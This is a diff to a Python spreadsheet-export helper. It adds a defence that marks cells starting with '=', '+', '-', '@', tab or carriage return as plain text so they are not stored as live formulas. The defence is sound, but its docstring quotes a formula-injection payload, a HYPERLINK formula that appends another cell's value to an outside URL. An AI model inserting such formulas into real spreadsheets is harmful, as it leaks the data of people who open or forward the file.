@@ -38,3 +38,19 @@ def fit_widths(sheet: Any, *, from_row: int = 1, extra: dict[int, int] | None = 
     for column, width in widths.items():
         sheet.column_dimensions[get_column_letter(column)].width = \
             max(MIN_WIDTH, min(MAX_WIDTH, width + 2))
+
+
+#: What a spreadsheet takes for the start of a formula in a cell typed by hand.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def literal_text(sheet: Any, *, from_row: int = 1) -> None:
+    """Keep every string from `from_row` on a string: openpyxl stores a value beginning
+    with `=` as a formula, so a roster name like `=HYPERLINK("http://…?"&B7,"查看")` would
+    become a live formula in an export an auditor opens (and sends on). Only the cell's
+    type changes; the text is the same."""
+    for row in sheet.iter_rows(min_row=from_row):
+        for cell in row:
+            value = cell.value
+            if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+                cell.data_type = "s"
